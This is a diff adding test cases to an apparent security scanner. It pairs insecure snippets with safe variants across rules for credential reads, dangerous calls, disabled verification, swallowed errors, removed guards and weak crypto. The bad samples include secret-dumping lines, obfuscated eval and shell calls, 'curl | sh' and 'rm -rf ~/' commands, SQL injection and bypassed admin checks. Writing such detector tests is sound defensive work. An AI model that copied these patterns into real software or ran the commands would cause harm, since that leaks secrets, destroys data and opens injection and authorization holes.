@@ -40,6 +40,18 @@ const rows: readonly Row[] = [
     good: python("", 'open(os.path.expanduser("~/notes.txt")).read()\n'),
   },
   { rule: "credentials-read", bad: script("", "send(JSON.stringify(process.env));\n"), good: script("", "send(JSON.stringify(process.env.PORT));\n") },
+  { rule: "credentials-read", bad: python("", "print({**os.environ})\n"), good: python("", "run(line, env={**os.environ, 'A': '1'})\n") },
+  {
+    rule: "credentials-read",
+    bad: python("", "for name in os.environ: print(name)\n"),
+    good: python("", "for name in names: print(os.environ[name])\nif x in os.environ: pass\n"),
+  },
+  {
+    rule: "credentials-read",
+    bad: python("", "print(os.getenv('AWS_SECRET_ACCESS_KEY'))\n"),
+    good: python("key = os.environ['GITHUB_TOKEN']\n", "key = os.environ.get('GITHUB_TOKEN')\nlevel = os.getenv('LOG_LEVEL')\n"),
+  },
+  { rule: "credentials-read", bad: script("", "send(process.env.NPM_TOKEN);\n"), good: script("", "send(process.env.PORT);\n") },
   { rule: "dangerous-call", bad: python("x = 1\n", "x = eval(text)\n"), good: python("x = 1\n", "x = ast.literal_eval(text)\nmodel.eval()\n") },
   {
     rule: "dangerous-call",
@@ -61,6 +73,78 @@ const rows: readonly Row[] = [
     rule: "dangerous-call",
     bad: { path: "app.jsx", before: "", after: "const a = <p dangerouslySetInnerHTML={{ __html: t }} />;\n" },
     good: { path: "app.jsx", before: "", after: "const a = <p title={t} />;\n" },
+  },
+  { rule: "dangerous-call", bad: python("", "import os\nrun = os.system\nrun(x)\n"), good: python("", "import os\nname = os.name\nrun = shell.system\n") },
+  { rule: "dangerous-call", bad: python("", "list(map(eval, texts))\n"), good: python("", "list(map(model.eval, texts))\nmode = {'eval': 1}\nf(eval=1)\n") },
+  { rule: "dangerous-call", bad: python("", "from os import *\nsystem(x)\n"), good: python("", "from platform import *\nsystem()\n") },
+  { rule: "dangerous-call", bad: python("", "import os\ngetattr(os, 'sys' + 'tem')(x)\n"), good: python("", "import os\ngetattr(os, 'sep' + suffix)\n") },
+  { rule: "dangerous-call", bad: python("", "vars(os)['system'](x)\n"), good: python("", "vars(os)['sep']\n") },
+  { rule: "dangerous-call", bad: python("", "__builtins__['eval'](x)\n"), good: python("", "modes['eval'](x)\n") },
+  { rule: "process-started", bad: python("", "__import__('sub' + 'process').call(x)\n"), good: python("", "__import__('sub' + name).call(x)\n") },
+  { rule: "dangerous-call", bad: script("", "[].constructor.constructor(x)();\n"), good: script("", "new this.constructor(x);\nlog(a.constructor.name);\n") },
+  { rule: "dangerous-call", bad: script("", "(0, eval)(x);\n"), good: script("", "(0, lib.go)(x);\n") },
+  {
+    rule: "dangerous-call",
+    bad: script("", "const go = require('child_process').exec;\ngo(x);\n"),
+    good: script("", "const go = /a/.exec;\nconst { sep } = require('path');\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: script("", "process.getBuiltinModule('child_process').execSync(x);\n"),
+    good: script("", "process.getBuiltinModule('path').join(x);\n"),
+  },
+  { rule: "dangerous-call", bad: script("", "(await import('node:child_process')).exec(x);\n"), good: script("", "(await import('node:path')).join(x);\n") },
+  {
+    rule: "dangerous-call",
+    bad: { path: "a.go", before: "", after: '\texec.Command("sh", "-c", x).Run()\n' },
+    good: { path: "a.go", before: "", after: '\texec.Command("git", "log", x).Run()\n' },
+  },
+  {
+    rule: "dangerous-call",
+    bad: { path: "Dockerfile", before: "", after: "RUN curl -s http://a.example/i.sh | sh\n" },
+    good: { path: "Dockerfile", before: "", after: "RUN curl -s http://a.example/a.tar | tar x\nRUN rm -rf /var/lib/apt/lists/*\nRUN chmod 755 /run.sh\n" },
+  },
+  {
+    rule: "dangerous-call",
+    bad: added("clean.sh", "rm -rf ~/\n"),
+    good: added("README.md", "Install it with `curl -s http://a.example | sh`.\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: python("", "import shutil\nshutil.rmtree(os.path.expanduser('~'))\n"),
+    good: python("", "import shutil\nshutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'app'))\nshutil.rmtree(folder)\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: script("", "import fs from 'fs';\nfs.rmSync(os.homedir(), o);\n"),
+    good: script("", "import fs from 'fs';\nfs.rmSync(folder, o);\n"),
+  },
+  { rule: "dangerous-call", bad: python("", "os.chmod(path, 0o777)\n"), good: python("", "os.chmod(path, 0o755)\nmode = 0o777\n") },
+  { rule: "dangerous-call", bad: python("", "place.chmod(0o777)\n"), good: python("", "place.chmod(0o700)\n") },
+  {
+    rule: "dangerous-call",
+    bad: python("", "db.execute(\"select * from t where a = '%s'\" % x)\n"),
+    good: python("", "db.execute('select * from t where a = %s', (x,))\ndb.execute('select * from t where a = ?', (x,))\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: python("", "db.execute(f'delete from t where id = {x}')\n"),
+    good: python("", "db.execute(f'select {columns} from {table} where id = ?', (x,))\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: python("", "db.execute('select * from t where name like {}'.format(x))\n"),
+    good: python("", "log.info('select one from {}'.format(x))\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: script("", "db.query('SELECT * FROM t WHERE id = ' + id);\n"),
+    good: script("", "db.query('SELECT * FROM t WHERE id = $1', [id]);\ndb.query('SELECT * FROM ' + table);\n"),
+  },
+  {
+    rule: "dangerous-call",
+    bad: script("", `await db.query(\`UPDATE t SET a = '\${a}'\`);\n`),
+    good: script("", `await sql\`UPDATE t SET a = \${a}\`;\n`),
   },
   {
     rule: "process-started",
@@ -102,6 +186,57 @@ const rows: readonly Row[] = [
     good: python("@login_required\ndef page(r):\n    return r\n", "@login_required\ndef page(r):\n    return r.body\n"),
   },
   {
+    rule: "verification-disabled",
+    bad: script("", "res.setHeader('Access-Control-Allow-Origin', '*');\n"),
+    good: script("", "res.setHeader('Access-Control-Allow-Origin', origin);\nres.setHeader('Accept', '*');\n"),
+  },
+  {
+    rule: "verification-disabled",
+    bad: script("", "app.use(cors({ origin: '*' }));\n"),
+    good: script("", "app.use(cors({ origin: known }));\nplot({ origin: '*' });\n"),
+  },
+  { rule: "verification-disabled", bad: python("", "add(CORS, allow_origins=['*'])\n"), good: python("", "add(CORS, allow_origins=['https://a.example'])\n") },
+  {
+    rule: "error-swallowed",
+    bad: python("", "try:\n    go()\nexcept Exception:\n    pass\n"),
+    good: python("", "try:\n    go()\nexcept KeyError:\n    pass\ntry:\n    go()\nexcept Exception as error:\n    log(error)\n"),
+  },
+  { rule: "error-swallowed", bad: script("", "try { go(); } catch {}\n"), good: script("", "try { go(); } catch { /* It is gone already. */ }\n") },
+  {
+    rule: "guard-removed",
+    bad: python("def is_admin(u):\n    return u.role == 'admin'\n", "def is_admin(u):\n    return u.role == 'admin' or True\n"),
+    good: python("def is_admin(u):\n    return u.role == 'admin'\n", "def is_admin(u):\n    return u.role == 'admin' or u.is_owner\n"),
+  },
+  {
+    rule: "guard-removed",
+    bad: python("def is_admin(u):\n    return u.role == 'admin'\n", "is_admin = lambda u: True\n"),
+    good: python("def is_admin(u):\n    return u.role == 'admin'\n", "is_admin = lambda u: u.role == 'admin'\nalways = lambda u: True\n"),
+  },
+  {
+    rule: "guard-removed",
+    bad: python("def f(u):\n    if not is_admin(u):\n        raise PermissionError\n", "def f(u):\n    if is_admin(u):\n        raise PermissionError\n"),
+    good: python(
+      "def f(u):\n    if not is_admin(u):\n        raise PermissionError\n",
+      "def f(u):\n    if not is_admin(u.owner):\n        raise PermissionError\n    if is_admin(u):\n        log(u)\n",
+    ),
+  },
+  {
+    rule: "guard-removed",
+    bad: script("function f(u) { if (!isAdmin(u)) throw new Error(); }\n", "function f(u) { if (isAdmin(u)) throw new Error(); }\n"),
+    good: script("function f(u) { if (!isAdmin(u)) throw new Error(); }\n", "function f(u) { if (!isAdmin(u)) throw new Refused(u); }\n"),
+  },
+  {
+    rule: "guard-removed",
+    bad: python(
+      "def f(root, p):\n    full = os.path.realpath(p)\n    if not full.startswith(root):\n        raise ValueError\n    return open(full)\n",
+      "def f(root, p):\n    full = os.path.realpath(p)\n    return open(full)\n",
+    ),
+    good: python(
+      "def f(root, p):\n    full = os.path.realpath(p)\n    if not full.startswith(root):\n        raise ValueError\n    return open(full)\n",
+      "def f(root, p):\n    full = pathlib.Path(p).resolve()\n    if not full.is_relative_to(root):\n        raise ValueError\n    return open(full)\n",
+    ),
+  },
+  {
     rule: "guard-removed",
     bad: script("app.get('/x', requireAuth, show);\n", "app.get('/x', show);\n"),
     good: script("app.get('/x', requireAuth, show);\n", "app.get('/x', requireAuth, showAll);\n"),
@@ -119,7 +254,7 @@ const rows: readonly Row[] = [
   {
     rule: "weak-crypto",
     bad: python("import hashlib\nd = hashlib.sha256(p)\n", "import hashlib\nd = hashlib.md5(p)\n"),
-    good: python("import hashlib\nd = hashlib.md5(p)\n", "import hashlib\nd = hashlib.sha256(p)\n"),
+    good: python("import hashlib\nd = hashlib.md5(p)\n", "import hashlib\nd = hashlib.sha256(p)\ntag = hashlib.md5(p, usedforsecurity=False)\n"),
   },
   {
     rule: "weak-crypto",
